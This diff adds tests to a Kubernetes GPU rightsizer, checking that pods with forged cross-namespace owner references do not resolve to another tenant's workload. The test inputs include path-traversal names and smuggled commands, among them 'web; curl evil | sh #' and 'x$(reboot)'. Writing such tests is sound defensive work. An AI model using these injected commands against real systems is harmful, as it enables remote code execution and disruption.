@@ -18,6 +18,7 @@ from rightsizer.inventory.workload_builder import build_fleet
 from rightsizer.kinds import RECORDABLE_KINDS
 from rightsizer.kube.cluster import Cluster
 from rightsizer.model import Fleet
+from rightsizer.object_names import INVALID_OWNER
 from simulator.kube import ApiServer, Fault
 from tests.rightsizer.kubectl import GPU, TEAM, Object, claim, node, obj, pod, using
 from tests.rightsizer.test_scenarios import DEFAULT_POLICY
@@ -99,6 +100,75 @@ def test_third_party_owners_are_found_by_discovery(server: Server) -> None:
     (found,) = server.fleet().workloads
     assert (found.ref.full_kind, found.ref.name, found.gpus) == ("JobSet.jobset.x-k8s.io", "train", 6)
     assert (found.size, bool(found.resource_version)) == (False, True)
+
+
+def _own(server: Server, name: str, namespace: str, reference: Object) -> None:
+    """A GPU pod of a tenant that names an owner."""
+    made = pod(name, namespace=namespace, ownerReferences=[{**reference, "controller": True}])
+    made["metadata"].pop("uid")
+    made["metadata"].pop("resourceVersion")
+    server.api.create(made)
+
+
+def _victim(server: Server, *, pods: int = 1) -> Object:
+    """A JobSet of another team, as an owner reference names it."""
+    top = obj("JobSet", "web", api_version="jobset.x-k8s.io/v1alpha2", spec={"suspend": False})
+    server.add(top, *(pod(f"web-{number}", top) for number in range(pods)))
+    uid = (server.api.get("JobSet", TEAM, "web") or {})["metadata"]["uid"]
+    return {"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "name": "web", "uid": uid}
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        {"name": f"../../{TEAM}/jobsets/web"},
+        {"name": f"..%2F..%2F{TEAM}%2Fjobsets%2Fweb"},
+        {"name": "web; curl evil | sh #"},
+        {"name": ".."},
+        {"kind": "JobSet/../.."},
+        {"apiVersion": "jobset.x-k8s.io/../v1alpha2"},
+        {"uid": "x$(reboot)"},
+    ],
+    ids=str,
+)
+def test_owner_with_an_impossible_name_is_never_asked_for(server: Server, lie: Object) -> None:
+    """Its pods are a workload of an unknown owner, in their own namespace."""
+    victim = _victim(server)
+    _own(server, "forger", OTHER, {**victim, **lie})
+    found = {one.ref.namespace: one for one in server.fleet().workloads}
+    assert (found[OTHER].ref.kind, found[OTHER].resource_version) == (INVALID_OWNER, "")
+    assert [one.ref.name for one in found[TEAM].pods] == ["web-0"]
+    assert not [path for path in server.asked() if ".." in path or "%" in path or ";" in path]
+
+
+@pytest.mark.parametrize("pods", [1, 5], ids=["one-by-one", "listed"])
+@pytest.mark.parametrize("name", ["web", "mine"])
+def test_owner_with_the_uid_of_another_namespace_is_not_found(server: Server, pods: int, name: str) -> None:
+    """No pod joins a workload of another namespace, and none hides its owner."""
+    victim = _victim(server, pods=pods)
+    for number in range(pods):
+        _own(server, f"forger-{number}", OTHER, {**victim, "name": name if number else "web"})
+    found = {(one.ref.namespace, one.ref.name): one for one in server.fleet().workloads}
+    assert (len(found[TEAM, "web"].pods), bool(found[TEAM, "web"].resource_version)) == (pods, True)
+    assert {one.resource_version for key, one in found.items() if key[0] == OTHER} == {""}
+
+
+@pytest.mark.parametrize("kind", ["Job", "Unknown"])
+def test_owner_with_a_uid_of_another_kind_hides_no_owner(server: Server, kind: str) -> None:
+    """Also if its pods are read first."""
+    victim = _victim(server)
+    _own(server, "forger", OTHER, {**victim, "kind": kind})
+    found = {one.ref.namespace: one for one in server.fleet().workloads}
+    assert (found[TEAM].ref.kind, bool(found[TEAM].resource_version)) == ("JobSet", True)
+    assert (found[OTHER].ref.kind, found[OTHER].resource_version) == (kind, "")
+
+
+def test_owner_with_a_name_of_another_uid_is_unread(server: Server) -> None:
+    """The object of that name is another one."""
+    victim = _victim(server)
+    _own(server, "forger", TEAM, {**victim, "uid": "another"})
+    found = {one.pods[0].ref.name: one.resource_version for one in server.fleet().workloads}
+    assert (found["forger"], bool(found["web-0"])) == ("", True)
 
 
 def test_reader_requests_only_needed_kinds(server: Server) -> None:
